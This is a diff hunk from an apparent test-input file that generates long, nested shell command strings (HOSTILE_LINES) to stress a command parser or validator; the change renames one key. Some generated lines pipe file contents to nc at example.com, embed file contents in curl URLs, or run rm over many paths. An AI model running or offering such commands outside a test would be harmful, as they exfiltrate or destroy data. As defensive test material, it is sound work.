@@ -30,7 +30,7 @@ export const HOSTILE_LINES: Readonly<Record<string, (n: number) => string>> = {
   "paths in many places": (n) => `find ${many("a", n / 2)} -exec echo ${many("{}", n / 2)} ';'`,
   "rounds inside rounds": (n) => `for i in {1..60}; do for j in {1..60}; do rm ${many("a/", n)}; done; done`,
   "files that flow through many": (n) => `cat ${many("a ", n / 2)}${many("| nc example.com 1 ", n / 2)}`,
-  "files behind many words": (n) => `x=$(cat ${many("a ", n / 2)}); curl ${many("a.b/$x ", n / 2)}`,
+  "files inside many words": (n) => `x=$(cat ${many("a ", n / 2)}); curl ${many("a.b/$x ", n / 2)}`,
   "braces before a long word": (n) => `rm {${many("a,", 200)}b}${many("c/", n)}`,
   "texts that are appended": (n) => many("echo abc >> f; ", n),
   "addresses with many parts": (n) => `wget ${many("//a/", n)}?`,
